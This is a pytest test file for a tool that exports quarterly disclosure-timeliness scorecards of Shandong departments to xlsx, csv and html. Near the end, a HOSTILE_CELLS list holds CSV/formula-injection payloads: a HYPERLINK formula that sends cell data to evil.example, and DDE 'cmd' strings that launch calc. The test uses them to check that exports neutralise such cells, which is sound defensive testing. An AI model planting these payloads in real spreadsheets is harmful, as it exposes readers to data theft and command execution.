"""Scorecard export: a small warehouse of three departments in two cities, read and written
as xlsx, csv and html; what an evaluator and a department would see is asserted."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import duckdb
import openpyxl
import pandas as pd
import pytest

from creditwh.scorecard import ScorecardError, load_scorecard, write_scorecard
from creditwh.scorecard.reasons import describe_defect
from creditwh.scorecard.sections import notes

ZB_TAX, JN_MARKET, LX_ENV = "11370300MB0000003C", "11370100MB0000001A", "11370102MB0000002B"

# 淄博 leads; 济南市场监管 and 历下生态环境 tie at 76 (rank 2, 2); 历下 was late on most records.
WAREHOUSE = f"""
create schema marts;
-- each region with the regions at or under it: 山东省 > 济南市 > 历下区, 山东省 > 淄博市
create table marts.dim_region_hierarchy (
    region_code varchar, region_name varchar, region_level varchar, member_region_code varchar,
    member_region_level varchar);
insert into marts.dim_region_hierarchy values
    ('370000', '山东省', 'province', '370000', 'province'), ('370000', '山东省', 'province', '370100', 'city'),
    ('370000', '山东省', 'province', '370102', 'district'), ('370000', '山东省', 'province', '370300', 'city'),
    ('370100', '济南市', 'city', '370100', 'city'), ('370100', '济南市', 'city', '370102', 'district'),
    ('370102', '历下区', 'district', '370102', 'district'), ('370300', '淄博市', 'city', '370300', 'city');

create table marts.dim_department (
    source_dept_code varchar, source_dept_name varchar, region_code varchar, region_name varchar,
    is_valid_code boolean);
insert into marts.dim_department values
    ('{ZB_TAX}', '淄博市税务局', '370300', '淄博市', true),
    ('{JN_MARKET}', '济南市市场监督管理局', '370100', '济南市', true),
    ('{LX_ENV}', '历下区生态环境局', '370102', '历下区', true);

create table marts.rpt_timeliness_evaluation_rules as select
    7 as deadline_working_days, 0.4::double as timeliness_weight, 0.3::double as compliance_weight,
    0.3::double as completeness_weight, 0.5::double as rectification_late_share;
create table marts.rpt_timeliness_evaluation_grades (grade_order integer, grade varchar, min_score double);
insert into marts.rpt_timeliness_evaluation_grades values (1, 'A', 95), (2, 'B', 85), (3, 'C', 70), (4, 'D', 0);

create table marts.rpt_timeliness_quarterly (
    period_quarter varchar, source_dept_code varchar, source_dept_name varchar, region_code varchar,
    records bigint, on_time_records bigint, timeliness_rate double, compliance_rate double,
    completeness_rate double, score double, rank bigint, grade varchar, needs_rectification boolean);
insert into marts.rpt_timeliness_quarterly values
    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', 10, 9, 0.9, 0.9, 1.0, 93.0, 1, 'B', false),
    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', 10, 7, 0.7, 0.8, 0.8, 76.0, 2, 'C', false),
    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', 5, 2, 0.4, 1.0, 1.0, 76.0, 2, 'C', true),
    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', 4, 4, 1.0, 1.0, 1.0, 100.0, 1, 'A', false);

-- each scope ranked among itself; 济南市 全市 pools its own department and 历下区 (15 records, 9 on time)
create table marts.rpt_timeliness_quarterly_region (
    period_quarter varchar, region_code varchar, region_name varchar, region_scope varchar, records bigint,
    on_time_records bigint, timeliness_rate double, compliance_rate double, completeness_rate double,
    score double, rank bigint, grade varchar, needs_rectification boolean);
insert into marts.rpt_timeliness_quarterly_region values
    ('2025Q4', '370000', '山东省', 'province', 25, 18, 0.72, 0.88, 0.92, 82.8, 1, 'C', false),
    ('2025Q4', '370300', '淄博市', 'city', 10, 9, 0.9, 0.9, 1.0, 93.0, 1, 'B', false),
    ('2025Q4', '370100', '济南市', 'city', 15, 9, 0.6, 13 / 15, 13 / 15, 76.0, 2, 'C', false),
    ('2025Q4', '370300', '淄博市', 'city_own', 10, 9, 0.9, 0.9, 1.0, 93.0, 1, 'B', false),
    ('2025Q4', '370100', '济南市', 'city_own', 10, 7, 0.7, 0.8, 0.8, 76.0, 2, 'C', false),
    ('2025Q4', '370102', '历下区', 'district', 5, 2, 0.4, 1.0, 1.0, 76.0, 1, 'C', true),
    ('2025Q3', '370000', '山东省', 'province', 4, 4, 1.0, 1.0, 1.0, 100.0, 1, 'A', false),
    ('2025Q3', '370100', '济南市', 'city', 4, 4, 1.0, 1.0, 1.0, 100.0, 1, 'A', false),
    ('2025Q3', '370100', '济南市', 'city_own', 4, 4, 1.0, 1.0, 1.0, 100.0, 1, 'A', false);

-- 济南 in October: licences 4/4 on time, penalties 0/2, pooled as 6 records, 4 on time
create table marts.rpt_timeliness_quarterly_trend as
select *, on_time_records / nullif(records, 0) as timeliness_rate,
       compliant_records / nullif(records, 0) as compliance_rate,
       complete_records / nullif(records, 0) as completeness_rate
from (values
    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-07-01', 0, 0, 0, 0, 0),
    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-08-01', 0, 0, 0, 0, 0),
    ('2025Q3', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-09-01', 4, 4, 4, 4, 0),
    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-10-01', 6, 4, 5, 5, 0),
    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-11-01', 4, 3, 3, 3, 0),
    ('2025Q4', '{JN_MARKET}', '济南市市场监督管理局', '370100', date '2025-12-01', 0, 0, 0, 0, 0),
    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', date '2025-10-01', 5, 5, 4, 5, 1),
    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', date '2025-11-01', 3, 2, 3, 3, 0),
    ('2025Q4', '{ZB_TAX}', '淄博市税务局', '370300', date '2025-12-01', 2, 2, 2, 2, 0),
    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', date '2025-10-01', 0, 0, 0, 0, 0),
    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', date '2025-11-01', 5, 2, 5, 5, 0),
    ('2025Q4', '{LX_ENV}', '历下区生态环境局', '370102', date '2025-12-01', 0, 0, 0, 0, 0)
) as t (period_quarter, source_dept_code, source_dept_name, region_code, period_month, records, on_time_records,
        compliant_records, complete_records, uscc_errors);

-- subject_name stands for any personal column the fact table may carry: it must never be exported.
create table marts.fct_disclosure_timeliness (
    record_kind varchar, source_dept_code varchar, source_dept_name varchar, region_code varchar,
    doc_no varchar, subject_type varchar, entity_code varchar, subject_name varchar,
    decision_date date, submitted_date date, working_days_elapsed integer,
    is_on_time boolean, is_compliant boolean, is_complete boolean, has_uscc_error boolean,
    defects varchar, period_month date, period_quarter varchar);
insert into marts.fct_disclosure_timeliness values
    ('license', '{JN_MARKET}', '济南市市场监督管理局', '370100', '济市监许〔2025〕001号', '法人及非法人组织',
     '91370100MA0000001X', '某公司', '2025-10-09', '2025-10-10', 1, true, true, true, false, '', '2025-10-01', '2025Q4'),
    ('license', '{JN_MARKET}', '济南市市场监督管理局', '370100', '济市监许〔2025〕002号', '法人及非法人组织',
     '91370100MA0000002X', '某公司', '2025-10-13', '2025-10-16', 3, true, true, false, false,
     'MISSING:legal_rep_name', '2025-10-01', '2025Q4'),
    ('penalty', '{JN_MARKET}', '济南市市场监督管理局', '370100', '济市监罚〔2025〕12号', '自然人',
     null, '张三丰', '2025-10-09', '2025-10-21', 8, false, true, true, false, '', '2025-10-01', '2025Q4'),
    ('license', '{JN_MARKET}', '济南市市场监督管理局', '370100', '济市监许〔2025〕090号', '法人及非法人组织',
     null, '某公司', '2025-09-01', '2025-09-22', 15, false, true, true, false, '', '2025-09-01', '2025Q3'),
    ('penalty', '{LX_ENV}', '历下区生态环境局', '370102', '历环罚〔2025〕3号', '法人及非法人组织',
     '91370102MA0000003X', '某公司', null, '2025-11-05', null, false, false, true, false,
     'UNPARSEABLE_DATE:decision_date', '2025-11-01', '2025Q4'),
    ('penalty', '{LX_ENV}', '历下区生态环境局', '370102', '历环罚〔2025〕4号', '法人及非法人组织',
     '91370102MA0000004X', '某公司', '2025-11-12', '2025-11-10', null, false, false, true, false,
     'DATE_ORDER:decision_after_submission', '2025-11-01', '2025Q4'),
    ('license', '{ZB_TAX}', '淄博市税务局', '370300', '淄税许〔2025〕9号', '法人及非法人组织',
     null, '某公司', '2025-10-09', '2025-10-10', 1, true, false, true, true,
     'INVALID:subject_uscc', '2025-10-01', '2025Q4'),
    ('penalty', '{ZB_TAX}', '淄博市税务局', '370300', '淄税罚〔2025〕5号', '法人及非法人组织',
     null, '某公司', '2025-11-03', '2025-11-14', 9, false, false, false, true,
     'INVALID:subject_uscc,MISSING:legal_rep_name,BOGUS_CODE', '2025-11-01', '2025Q4');
-- 报送时间 missing, unparseable or a defect: none of the records above
alter table marts.fct_disclosure_timeliness add column lacks_submission_date boolean default false;
"""

EXPECTED_PROBLEMS = [
    ("历下区生态环境局", "历环罚〔2025〕3号", "无法计算时限（决定日期缺失或无法识别）；日期无法识别：处罚决定日期"),
    ("历下区生态环境局", "历环罚〔2025〕4号", "报送早于决定日期"),
    ("济南市市场监督管理局", "济市监罚〔2025〕12号", "逾期报送（8个工作日，限7个工作日）"),
    ("济南市市场监督管理局", "济市监许〔2025〕002号", "缺少：法定代表人"),
    ("淄博市税务局", "淄税罚〔2025〕5号",
     "逾期报送（9个工作日，限7个工作日）；不合规：统一社会信用代码校验错误；缺少：法定代表人；BOGUS_CODE"),
    ("淄博市税务局", "淄税许〔2025〕9号", "不合规：统一社会信用代码校验错误"),
]


@pytest.fixture
def con(tmp_path):
    c = duckdb.connect(str(tmp_path / "credit.duckdb"))
    c.execute(WAREHOUSE)
    yield c
    c.close()


@pytest.fixture
def scorecard(con):
    return load_scorecard(con, "2025Q4")


def _rows(ws):
    return [list(r) for r in ws.iter_rows(min_row=2, values_only=True)]


def _column(ws, heading):
    headings = [c.value for c in ws[1]]
    return headings.index(heading) + 1


def test_xlsx_has_rankings_trend_chart_and_problem_list(scorecard, tmp_path):
    out = write_scorecard(scorecard, tmp_path / "out" / "2025Q4.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["说明", "部门排名", "区域排名", "环比变化", "问题分类", "点名通报", "整体趋势", "月度趋势",
                             "问题数据清单", "图表数据"]

    notes = {r[0]: r[1] for r in wb["说明"].iter_rows(min_row=2, values_only=True)}
    assert wb["说明"]["A1"].value == "2025Q4 双公示信息报送质量季度评估"
    assert notes["区域"] == "全部区域"
    assert notes["得分"] == "得分 = 100 ×（0.4 × 及时率 + 0.3 × 合规率 + 0.3 × 完整率）"
    assert notes["等级"] == "A：得分 ≥ 95；B：得分 ≥ 85；C：得分 ≥ 70；D：其余"
    assert notes["需整改"].startswith("逾期报送的记录占比超过 50% 的单位")

    ws = wb["部门排名"]
    assert [c.value for c in ws[1]] == ["排名", "部门", "部门代码", "区域", "报送数量", "按时报送数量", "及时率",
                                        "许可数量", "许可及时率", "处罚数量", "处罚及时率", "合规率", "完整率", "得分",
                                        "等级", "得分环比", "逾期占比", "需整改"]
    assert [(r[0], r[1], r[17]) for r in _rows(ws)] == [
        (1, "淄博市税务局", "否"), (2, "济南市市场监督管理局", "否"), (2, "历下区生态环境局", "是"),
        (None, "合计 山东省（全省）", "否")]
    rate = ws.cell(2, _column(ws, "及时率"))
    assert rate.value == pytest.approx(0.9) and rate.number_format == "0.0%"
    assert ws.cell(2, _column(ws, "得分")).number_format == "0.0"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:R4"
    assert ws["A1"].font.bold
    assert ws.cell(4, 1).fill.fgColor.rgb.endswith("FDE2E2")  # 需整改 row highlighted

    assert [r[:3] for r in _rows(wb["区域排名"])] == [
        ["全省", 1, "370000"], ["全市", 1, "370300"], ["全市", 2, "370100"], ["市本级", 1, "370300"],
        ["市本级", 2, "370100"], ["县区", 1, "370102"]]

    trend = wb["月度趋势"]
    assert trend._charts == []  # the trend's charts are the selection's, on 整体趋势
    jn_october = next(r for r in _rows(trend) if r[1] == JN_MARKET and r[2] == "2025-10")
    # licences 4/4 on time, penalties 0/2: pooled 4/6, not the mean of the two rates
    assert jn_october[3:6] == [6, 4, pytest.approx(4 / 6)]
    jn_december = next(r for r in _rows(trend) if r[1] == JN_MARKET and r[2] == "2025-12")
    assert jn_december[3] == 0 and jn_december[5] is None
    assert len(_rows(trend)) == 9  # 3 departments x 3 months; September is not in Q4

    problems = wb["问题数据清单"]
    assert [c.value for c in problems[1]] == ["部门", "部门代码", "类别", "决定文书号", "决定日期", "报送日期",
                                              "工作日数", "问题"]
    assert [(r[0], r[3], r[7]) for r in _rows(problems)] == EXPECTED_PROBLEMS
    late = next(r for r in _rows(problems) if r[3] == "济市监罚〔2025〕12号")
    assert late[2] == "行政处罚" and late[6] == 8 and late[4].date().isoformat() == "2025-10-09"


def _width(ws, column):
    """A column's width; the file may give one width to a run of adjacent columns."""
    return next(d.width for d in ws.column_dimensions.values() if d.min <= column <= d.max)


def _fill(cell):
    return cell.fill.fgColor.rgb[-6:] if cell.fill.fill_type == "solid" else None


def test_xlsx_formats_what_evaluators_read(scorecard, tmp_path):
    wb = openpyxl.load_workbook(write_scorecard(scorecard, tmp_path / "2025Q4.xlsx"))

    about = wb["说明"]
    assert about["A1"].font.bold and about["A1"].font.sz == 14
    assert about["A2"].font.bold and about["B2"].alignment.wrap_text and about["B2"].alignment.vertical == "top"
    assert (_width(about, 1), _width(about, 2)) == (14, 100)

    ws = wb["部门排名"]
    assert {_fill(c) for c in ws[1]} == {"DDE4EE"}
    assert {_fill(c) for c in ws[4]} == {"FDE2E2"} and {_fill(c) for c in ws[2]} == {None}  # only 历下 needs 需整改
    assert ws.cell(2, _column(ws, "报送数量")).number_format == "0"
    assert _width(ws, _column(ws, "部门")) == 23  # 济南市市场监督管理局: ten wide characters + 3

    problems = wb["问题数据清单"]
    assert problems.freeze_panes == "A2" and problems.auto_filter.ref == "A1:H7"
    undated, dated = problems[2], problems[3]  # 历环罚〔2025〕3号 has no decision date
    assert undated[4].value is None and undated[6].value is None
    assert dated[4].is_date and dated[4].number_format == "yyyy-mm-dd" and str(dated[4].value.date()) == "2025-11-12"
    assert _width(problems, _column(problems, "问题")) == 60  # the longest problem text is capped

    trend = wb["月度趋势"]
    assert trend.max_column == 8  # the department x month table only: no chart block beside it
    chart = wb["整体趋势"]._charts[0]
    assert "".join(r.t for p in chart.title.tx.rich.p for r in p.r) == "全部区域 及时率"
    assert (chart.y_axis.scaling.min, chart.y_axis.scaling.max) == (0, 1)
    assert chart.y_axis.number_format.formatCode == "0%"
    (series,) = chart.series  # one line: the selection as a whole
    assert series.cat.strRef.f == "图表数据!$A$2:$A$5"  # 2025-09 (the first month with records) to 2025-12
    assert series.marker.symbol == "circle" and not series.smooth


def test_region_filter_keeps_its_departments_and_ranks_within(con, tmp_path):
    scorecard = load_scorecard(con, "2025Q4", region="370100")
    assert scorecard.region_name == "济南市"
    assert scorecard.departments[["source_dept_code", "rank", "rank_in_selection"]].values.tolist() == [
        [JN_MARKET, 2, 1], [LX_ENV, 2, 1]]
    assert scorecard.regions[["region_scope", "region_code"]].values.tolist() == [
        ["city", "370100"], ["city_own", "370100"], ["district", "370102"]]
    assert set(scorecard.problems["source_dept_code"]) == {JN_MARKET, LX_ENV}
    assert set(scorecard.monthly_trend["source_dept_code"]) == {JN_MARKET, LX_ENV}

    ws = openpyxl.load_workbook(write_scorecard(scorecard, tmp_path / "jn.xlsx"))["部门排名"]
    assert [c.value for c in ws[1]][:3] == ["排名", "区域内排名", "部门"]

    zibo = load_scorecard(con, "2025Q4", region="370300")
    assert zibo.departments[["rank", "rank_in_selection"]].values.tolist() == [[1, 1]]
    district = load_scorecard(con, "2025Q4", region="370102")
    assert district.departments["source_dept_code"].tolist() == [LX_ENV]
    assert len(load_scorecard(con, "2025Q4", region="370000").departments) == 3


def test_csv_has_sections_and_percentages(scorecard, tmp_path):
    raw = write_scorecard(scorecard, tmp_path / "2025Q4.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    content = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    titles = [r[0] for r in rows if len(r) == 1 and r[0].startswith("【")]
    assert titles == ["【说明】", "【部门排名】", "【区域排名】", "【环比变化】", "【问题分类】", "【点名通报】",
                      "【整体趋势】", "【月度趋势】", "【问题数据清单】"]
    headings, first = rows[rows.index(["【部门排名】"]) + 1: rows.index(["【部门排名】"]) + 3]
    ranked = dict(zip(headings, first))
    assert first[:2] == ["1", "淄博市税务局"]
    assert [ranked[h] for h in ("及时率", "合规率", "完整率", "得分")] == ["90.0%", "90.0%", "100.0%", "93.0"]
    assert ["历环罚〔2025〕4号", "报送早于决定日期"] == rows[rows.index(["【问题数据清单】"]) + 3][3::4]
    assert "张三丰" not in content and "91370100MA0000001X" not in content  # no personal data, no subject codes


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text, self.flagged_rows = [], [], 0

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.flagged_rows += tag == "tr" and ("class", "flagged") in attrs

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_a_standalone_page_with_svg_trend(scorecard, tmp_path):
    content = write_scorecard(scorecard, tmp_path / "2025Q4.html").read_text(encoding="utf-8")
    page = _Page()
    page.feed(content)
    assert '<html lang="zh-CN">' in content and '<meta charset="utf-8">' in content
    assert "svg" in page.tags and "polyline" in page.tags and "script" not in page.tags
    text = "".join(page.text)
    for heading in ["部门排名", "区域排名", "月度趋势", "问题数据清单", "需整改", "及时率", "得分", "排名", "等级"]:
        assert heading in text
    assert "90.0%" in text and "逾期报送（8个工作日，限7个工作日）" in text
    assert page.flagged_rows == 2  # 历下区生态环境局 in 部门排名, 历下区 in 区域排名
    assert "@media print" in content and "张三丰" not in content


def test_html_escapes_department_names(con, tmp_path):
    con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = '<b>局</b>' where rank = 1")
    content = write_scorecard(load_scorecard(con, "2025Q4"), tmp_path / "x.html").read_text(encoding="utf-8")
    assert "<b>局</b>" not in content and "&lt;b&gt;局&lt;/b&gt;" in content


def test_without_configured_rules_nothing_is_invented(con):
    con.execute("delete from marts.rpt_timeliness_evaluation_rules; delete from marts.rpt_timeliness_evaluation_grades")
    scorecard = load_scorecard(con, "2025Q4")
    late = scorecard.problems.set_index("doc_no").at["济市监罚〔2025〕12号", "problem"]
    assert late == "逾期报送（8个工作日）"
    text = dict(notes(scorecard))
    assert all("未配置" in text[label] for label in ["得分", "等级", "报送时限", "需整改"])


def test_the_rules_stated_are_those_the_marts_were_built_with(con):
    con.execute("update marts.rpt_timeliness_evaluation_rules set deadline_working_days = 5, timeliness_weight = 0.5, "
                "compliance_weight = 0.25, completeness_weight = 0.25, rectification_late_share = 0.4")
    con.execute("delete from marts.rpt_timeliness_evaluation_grades where grade = 'B'")
    scorecard = load_scorecard(con, "2025Q4")
    text = dict(notes(scorecard))
    assert text["得分"] == "得分 = 100 ×（0.5 × 及时率 + 0.25 × 合规率 + 0.25 × 完整率）"
    assert text["等级"] == "A：得分 ≥ 95；C：得分 ≥ 70；D：其余"
    assert text["报送时限"] == "自行政决定作出之日起5个工作日内报送"
    assert text["需整改"].startswith("逾期报送的记录占比超过 40% 的单位")
    late = scorecard.problems.set_index("doc_no").at["济市监罚〔2025〕12号", "problem"]
    assert late == "逾期报送（8个工作日，限5个工作日）"


def test_a_region_is_what_the_hierarchy_puts_under_it(con):
    """Not a code prefix: a region the hierarchy does not place under 济南市 is not in its scorecard."""
    con.execute("delete from marts.dim_region_hierarchy where region_code = '370100' and member_region_code = '370102'")
    jinan = load_scorecard(con, "2025Q4", region="370100")
    assert jinan.region_level == "city"
    assert jinan.departments["source_dept_code"].tolist() == [JN_MARKET]
    assert jinan.regions["region_code"].tolist() == ["370100", "370100"]  # 全市 and 市本级
    assert set(jinan.problems["source_dept_code"]) == set(jinan.monthly_trend["source_dept_code"]) == {JN_MARKET}


@pytest.mark.parametrize(
    ("quarter", "region", "expected"),
    [
        ("2025-4", None, ["'2025-4'", "YYYYQn", "2025Q4"]),
        ("2025Q5", None, ["YYYYQn"]),
        ("2025Q4", "379999", ["'379999'", "370100 济南市", "370300 淄博市"]),
        ("2024Q1", None, ["2024Q1", "2025Q3, 2025Q4"]),
        ("2025Q3", "370300", ["2025Q3", "370300 淄博市", "there: 2025Q4"]),
    ],
)
def test_helpful_errors(con, quarter, region, expected):
    with pytest.raises(ScorecardError) as raised:
        load_scorecard(con, quarter, region)
    for part in expected:
        assert part in str(raised.value)


def test_missing_marts_is_a_scorecard_error(tmp_path):
    with duckdb.connect() as empty, pytest.raises(ScorecardError, match="creditwh run"):
        load_scorecard(empty, "2025Q4")


def test_unknown_suffix(scorecard, tmp_path):
    with pytest.raises(ValueError, match=r"\.xlsx, \.csv or \.html"):
        write_scorecard(scorecard, tmp_path / "out" / "2025Q4.pdf")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("code", "kind", "text"),
    [
        ("MISSING:legal_rep_name", "license", "缺少：法定代表人"),
        ("UNPARSEABLE_DATE:decision_date", "license", "日期无法识别：许可决定日期"),
        ("INVALID:penalty_categories", "penalty", "不合规：处罚类别不在代码表中"),
        ("INVALID:fine_amount", "penalty", "不合规：罚款金额不是非负数值"),
        ("MISSING:some_new_column", "penalty", "缺少：some_new_column"),
        ("DATE_ORDER:submission_after_as_of", "penalty", "报送时间晚于统计基准日"),  # 2025 typed as 2052
        ("INVALID:decision_date", "license", "不合规：许可决定日期"),  # before 1949-10-01
        ("INVALID:submitted_date", "penalty", "不合规：报送时间"),
        ("DATE_ORDER:some_new_rule", "penalty", "DATE_ORDER:some_new_rule"),
    ],
)
def test_defect_codes_in_chinese(code, kind, text):
    assert describe_defect(code, kind) == text


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_and_xlsx_cells_never_start_a_formula(con, tmp_path):
    """OWASP CSV injection: department names and document numbers come from departments' extracts."""
    con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = ? where source_dept_code = ?",
                [HOSTILE_CELLS[0], ZB_TAX])
    con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = ? where source_dept_code = ?",
                [HOSTILE_CELLS[1], JN_MARKET])
    con.execute("update marts.rpt_timeliness_quarterly_region set region_name = ? where region_code = '370300'",
                [HOSTILE_CELLS[2]])
    for i, doc in enumerate(["淄税罚〔2025〕5号", "淄税许〔2025〕9号", "历环罚〔2025〕4号", "济市监罚〔2025〕12号"]):
        con.execute("update marts.fct_disclosure_timeliness set doc_no = ? where doc_no = ?", [HOSTILE_CELLS[3 + i], doc])
    con.execute("update marts.rpt_timeliness_quarterly set score = -5.5 where source_dept_code = ?", [LX_ENV])
    scorecard = load_scorecard(con, "2025Q4")

    content = write_scorecard(scorecard, tmp_path / "q.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert {c for c in cells if c.startswith("-")} == {"-5.5"}  # a number stays a number (部门排名, 环比变化)
    for hostile in HOSTILE_CELLS:
        assert "'" + hostile in cells  # kept whole, as text

    book = openpyxl.load_workbook(write_scorecard(scorecard, tmp_path / "q.xlsx"))
    values = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert [c.value for c in values if c.data_type == "f"] == []
    assert {HOSTILE_CELLS[0], HOSTILE_CELLS[1]} <= {c.value for c in values}


# --- issue 17: regions as wholes, totals, 许可/处罚, change, problem types, 点名通报, print set-up ---


def test_a_city_with_districts_is_one_whole_with_its_own_row_and_its_districts(con, tmp_path):
    """--region 370100: 济南市 全市 (its own department and 历下区) is the total; 市本级 and 历下区 beside it."""
    jinan = load_scorecard(con, "2025Q4", region="370100")
    assert jinan.regions[["region_scope", "region_code", "records", "rank_in_selection"]].values.tolist() == [
        ["city", "370100", 15, 1], ["city_own", "370100", 10, 1], ["district", "370102", 5, 1]]
    (total,) = jinan.totals.to_dict("records")
    assert (total["region_scope"], total["records"], total["score"]) == ("city", 15, 76.0)

    wb = openpyxl.load_workbook(write_scorecard(jinan, tmp_path / "jn.xlsx"))
    notes = {r[0]: r[1] for r in wb["说明"].iter_rows(min_row=2, values_only=True)}
    assert notes["区域"] == "370100 济南市（含所辖县区）"
    assert [r[:5] for r in _rows(wb["区域排名"])] == [
        ["全市", 2, 1, "370100", "济南市"], ["市本级", 2, 1, "370100", "济南市"], ["县区", 1, 1, "370102", "历下区"]]
    assert _rows(wb["部门排名"])[-1][2] == "合计 济南市（全市）"


def test_a_whole_new_this_quarter_has_no_change(con, tmp_path):
    """淄博市 had no records in 2025Q3: its total's change is an empty cell, not NaN."""
    zibo = load_scorecard(con, "2025Q4", region="370300")
    ws = openpyxl.load_workbook(write_scorecard(zibo, tmp_path / "zb.xlsx"))["部门排名"]
    total = dict(zip([c.value for c in ws[1]], [c.value for c in ws[ws.max_row]]))
    assert total["部门"] == "合计 淄博市（全市）" and total["得分环比"] is None and total["得分"] == 93.0


def test_the_ranking_ends_with_the_total_of_the_selection(scorecard, tmp_path):
    ws = openpyxl.load_workbook(write_scorecard(scorecard, tmp_path / "q.xlsx"))["部门排名"]
    total = dict(zip([c.value for c in ws[1]], [c.value for c in ws[5]]))
    assert total["部门"] == "合计 山东省（全省）" and total["排名"] is None
    assert (total["报送数量"], total["及时率"], total["得分"], total["等级"]) == (25, 0.72, 82.8, "C")
    assert ws.cell(5, 2).font.bold


def test_licences_and_penalties_beside_the_pooled_figures(scorecard):
    """From the records of the quarter: 济南市场监管 2 licences (both on time), 1 penalty (late)."""
    jn = scorecard.departments.set_index("source_dept_code").loc[JN_MARKET]
    assert (jn["license_records"], jn["license_timeliness_rate"]) == (2, 1.0)
    assert (jn["penalty_records"], jn["penalty_timeliness_rate"]) == (1, 0.0)
    lx = scorecard.departments.set_index("source_dept_code").loc[LX_ENV]
    assert lx["license_records"] == 0 and pd.isna(lx["license_timeliness_rate"])  # no licences: no rate
    (total,) = scorecard.totals.to_dict("records")
    assert (total["license_records"], total["penalty_records"]) == (3, 4)


def test_change_from_the_previous_quarter(scorecard, tmp_path):
    """济南市场监管 scored 100 in 2025Q3 and 76 now: ▼24.0, 及时率 ▼30.0 points; the others had no records."""
    changes = scorecard.departments.set_index("source_dept_code")
    assert changes.at[JN_MARKET, "score_change"] == pytest.approx(-24.0)
    assert changes.at[JN_MARKET, "timeliness_change"] == pytest.approx(-30.0)
    assert pd.isna(changes.at[ZB_TAX, "score_change"])
    (total,) = scorecard.totals.to_dict("records")
    assert total["score_change"] == pytest.approx(82.8 - 100)

    rows = list(csv.reader(io.StringIO(write_scorecard(scorecard, tmp_path / "q.csv").read_text("utf-8-sig"))))
    start = rows.index(["【环比变化】"])
    headings, *body = rows[start + 1: start + 6]
    jn = dict(zip(headings, next(r for r in body if r[1] == JN_MARKET)))
    assert (jn["上季度得分"], jn["得分环比"], jn["及时率环比（百分点）"]) == ("100.0", "▼24.0", "▼30.0")


def test_problem_counts_by_type_per_department(con, scorecard):
    zb = scorecard.departments.set_index("source_dept_code").loc[ZB_TAX]
    assert [zb[c] for c in ("late_records", "non_compliant_records", "incomplete_records", "uscc_error_records",
                            "undated_records", "problem_records")] == [1, 2, 1, 2, 0, 2]
    # a record without 报送时间, counted in its decision month: late and undated
    con.execute(f"""insert into marts.fct_disclosure_timeliness (record_kind, source_dept_code, source_dept_name,
        region_code, doc_no, decision_date, is_on_time, is_compliant, is_complete, has_uscc_error, defects,
        period_month, period_quarter, lacks_submission_date) values ('license', '{ZB_TAX}', '淄博市税务局', '370300',
        '淄税许〔2025〕10号', '2025-12-01', false, true, false, false, 'MISSING:submitted_at', '2025-12-01', '2025Q4',
        true)""")
    zb = load_scorecard(con, "2025Q4").departments.set_index("source_dept_code").loc[ZB_TAX]
    assert (zb["late_records"], zb["undated_records"], zb["problem_records"]) == (2, 1, 3)


COVERAGE = f"""
create table marts.rpt_reporting_coverage_monthly (period_month date, record_kind varchar, source_dept_code varchar,
    source_dept_name varchar, region_code varchar, records bigint, is_zero_delivery boolean, named_reasons varchar,
    is_named boolean);
insert into marts.rpt_reporting_coverage_monthly values
    ('2025-11-01', 'penalty', '{LX_ENV}', '历下区生态环境局', '370102', 5, false, '迟报过半,及时率未达标', true),
    ('2025-12-01', 'penalty', '{ZB_TAX}', '淄博市税务局', '370300', 0, true, '零报送', true),
    ('2025-10-01', 'license', '{JN_MARKET}', '济南市市场监督管理局', '370100', 4, false, '', false),
    ('2025-09-01', 'license', '{JN_MARKET}', '济南市市场监督管理局', '370100', 0, true, '零报送', true);
"""


def test_named_units_of_the_quarter_zero_delivery_first(con, scorecard, tmp_path):
    assert scorecard.named is None  # a warehouse built before the coverage mart: said, not an error
    con.execute(COVERAGE)
    named = load_scorecard(con, "2025Q4").named
    assert named[["month", "source_dept_code", "named_reasons"]].values.tolist() == [
        ["2025-12", ZB_TAX, "零报送"], ["2025-11", LX_ENV, "迟报过半,及时率未达标"]]  # 2025-09 is not in Q4
    assert load_scorecard(con, "2025Q4", region="370100").named["source_dept_code"].tolist() == [LX_ENV]
    ws = openpyxl.load_workbook(write_scorecard(load_scorecard(con, "2025Q4"), tmp_path / "q.xlsx"))["点名通报"]
    assert _rows(ws)[0] == ["2025-12", "淄博市税务局", ZB_TAX, "行政处罚", 0, "零报送"]


def test_every_sheet_prints_on_a4_landscape_one_page_wide(scorecard, tmp_path):
    wb = openpyxl.load_workbook(write_scorecard(scorecard, tmp_path / "q.xlsx"))
